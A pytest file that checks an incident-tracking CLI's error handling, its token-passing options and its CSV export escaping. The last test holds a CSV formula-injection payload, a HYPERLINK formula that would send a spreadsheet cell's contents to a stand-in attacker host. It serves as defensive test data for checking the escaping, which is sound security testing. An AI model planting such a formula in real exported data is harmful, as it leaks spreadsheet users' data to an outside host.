"""The command line at its edges (issue 11 point 8), through the real ``incidents`` command.

Every bad argument is one line on stderr and a non-zero exit, never a traceback; a ``--db``
in a folder that does not exist is refused and creates nothing, unless the command makes a
database on purpose (``demo``, ``serve --init``); a command that finds its store empty says
which store; CSV cells that start like a formula are escaped; ``--token-file`` and
``INCIDENTS_TOKEN`` pass a token that ``ps`` does not show.
"""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import IO

import pytest

from backends.sqlite.store import SqliteBackend
from console.domain.models import NewIncident, Service
from tests.remote.conftest import Live
from tests.remote.server import ROOT, ServerProcess, hermetic_env

INCIDENTS = str(Path(sys.executable).with_name("incidents"))


def run(
    home: Path,
    *args: str,
    stdout: IO[str] | int = subprocess.PIPE,
    env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [INCIDENTS, *args],
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
        env={**hermetic_env(home), **(env or {})},
        cwd=home,
    )


def one_line_refusal(result: subprocess.CompletedProcess[str]) -> str:
    """The single stderr line of a refused command (after checking there is only one)."""
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.returncode not in (0, None), result
    assert "Traceback" not in result.stderr, result.stderr
    assert len(lines) == 1, result.stderr
    return lines[0]


async def _empty_store(db: Path) -> None:
    async with SqliteBackend(db):
        pass


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A folder with an empty store ``x.db``, a config with an unknown priority and a blank
    token file."""
    folder = tmp_path / "work"
    folder.mkdir()
    asyncio.run(_empty_store(folder / "x.db"))
    (folder / "empty.toml").write_text("[sla]\nP9 = '1h'\n")
    (folder / "blank.token").write_text("\n")
    return folder


BAD_ARGUMENTS = {
    "serve port too high": (("serve", "--db", "x.db", "--port", "99999"), "--port"),
    "serve port negative": (("serve", "--db", "x.db", "--port", "-1"), "--port"),
    "web port": (("web", "--port", "70000"), "--port"),
    "report window too long": (("report", "--db", "x.db", "--since", "99999999999d"), "36500"),
    "report window unreadable": (("report", "--db", "x.db", "--since", "soon"), "window"),
    "a folder as --db": (("report", "--db", "."), "is a folder"),
    "a folder as --db (console)": (("--db", "."), "is a folder"),
    "--db in a missing folder": (("report", "--db", "nodir/x.db"), "there is no folder nodir"),
    "--db in a missing folder (token)": (
        ("token", "create", "--user", "a", "--role", "admin", "--db", "nodir/x.db"),
        "there is no folder nodir",
    ),
    "--db in a missing folder (console)": (("--db", "nodir/x.db"), "there is no folder"),
    "INCIDENTS_DB in a missing folder": (("report",), "there is no folder"),
    "a text file as --db": (("report", "--db", "empty.toml"), "not an SQLite database"),
    "unknown incident key": (("pir", "INC-404", "--db", "x.db"), "no incident 'INC-404' in"),
    "unknown priority in the config": (
        ("--config", "empty.toml", "report", "--db", "x.db"),
        "unknown key 'sla.P9'",
    ),
    "bad time": (
        ("change", "record", "--db", "x.db", "--service", "s", "--summary", "x", "--at", "noon"),
        "ISO 8601",
    ),
    "negative limit": (("change", "list", "--db", "x.db", "--limit", "-5"), "--limit"),
    "negative demo history": (("demo", "--db", "d.db", "--history", "-5"), "--history"),
    "missing directory file": (("directory", "apply", "nofile.toml", "--db", "x.db"), "no file"),
    "missing config file": (("--config", "nofile.toml", "report", "--db", "x.db"), "does not"),
    "missing replay file": (("replay", "nofile.jsonl", "--db", "x.db"), "nofile.jsonl"),
    "missing token file": (("--token-file", "nofile", "report"), "--token-file nofile"),
    "empty token file": (("--token-file", "blank.token", "report"), "is empty"),
    "token and token file": (("--token", "t", "--token-file", "blank.token", "report"), "not both"),
    "unreachable server": (("--backend", "http://127.0.0.1:1", "report"), "cannot reach"),
    "unknown command": (("bogus",), "invalid choice"),
    "unknown option": (("report", "--frobnicate"), "unrecognized arguments"),
}


@pytest.mark.parametrize("case", sorted(BAD_ARGUMENTS))
def test_a_bad_argument_is_one_line_and_a_failure(case: str, work: Path) -> None:
    args, says = BAD_ARGUMENTS[case]
    env = {"INCIDENTS_DB": str(work / "nodir" / "x.db")} if "INCIDENTS_DB" in case else None
    line = one_line_refusal(run(work, *args, env=env))
    assert says in line
    assert line.startswith("incidents")
    assert not (work / "nodir").exists()  # a mistyped folder is never created


def test_output_to_a_full_disk_is_one_line(work: Path) -> None:
    assert run(work, "demo", "--db", "demo.db", "--history", "5", "--open", "3").returncode == 0
    for args in (("pir", "INC-1", "--db", "demo.db"), ("report", "--db", "demo.db")):
        with open("/dev/full", "w") as full:
            line = one_line_refusal(run(work, *args, stdout=full))
        assert "No space left on device" in line


def test_bad_token_against_a_real_server(live: Live, work: Path) -> None:
    line = one_line_refusal(run(work, "--backend", live.url, "--token", "inc_nope", "report"))
    assert "token" in line.lower()


def test_token_file_and_environment_pass_the_token(live: Live, work: Path) -> None:
    token = work / "viewer.token"
    token.write_text(live.token("viewer") + "\n")
    by_file = run(work, "--backend", live.url, "--token-file", str(token), "report")
    assert by_file.returncode == 0, by_file.stderr
    by_env = run(
        work, "--backend", live.url, "report", env={"INCIDENTS_TOKEN": live.token("viewer")}
    )
    assert by_env.returncode == 0, by_env.stderr
    assert "KPIs" in by_file.stdout and "KPIs" in by_env.stdout


def test_help_names_the_ways_to_pass_a_token(work: Path) -> None:
    top = run(work, "--help").stdout
    assert "--token-file" in top and "INCIDENTS_TOKEN" in top
    for command in ("report", "pir", "change list", "directory apply", "web"):
        assert "--token-file" in run(work, *command.split(), "--help").stdout, command
    readme = (ROOT / "README.md").read_text()
    assert "--token-file" in readme and "INCIDENTS_TOKEN" in readme


def test_commands_that_create_a_database_on_purpose_make_its_folder(work: Path) -> None:
    demo = run(work, "demo", "--db", "new/demo.db", "--history", "5", "--open", "3")
    assert demo.returncode == 0, demo.stderr
    assert (work / "new" / "demo.db").stat().st_size > 0
    server = ServerProcess(work / "fresh" / "team.db", home=work, args=("--init",)).start()
    try:
        server.wait_ready()
    finally:
        server.stop()
    assert (work / "fresh" / "team.db").exists()


EMPTY_STORE = {
    "report": ("report",),
    "token list": ("token", "list"),
    "integration list": ("integration", "list"),
    "change list": ("change", "list"),
    "directory export": ("directory", "export"),
    "pir": ("pir", "INC-1"),
}


@pytest.mark.parametrize("case", sorted(EMPTY_STORE))
def test_an_empty_store_is_named(case: str, work: Path) -> None:
    db = work / "empty.db"
    result = run(work, *EMPTY_STORE[case], "--db", str(db))
    assert "Traceback" not in result.stderr
    assert str(db) in result.stdout + result.stderr


async def test_csv_cells_that_start_like_a_formula_are_escaped(work: Path) -> None:
    db = work / "csv.db"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    async with SqliteBackend(db) as store:
        await store.put_service(Service(id="web", name="Web"))
        await store.put_service(Service(id=formula, name="evil"))
        await store.create_incident(NewIncident(title="x", service=formula), "alice")
        await store.create_incident(NewIncident(title="y", service="web"), "alice")
    result = run(work, "report", "--db", str(db), "--format", "csv")
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
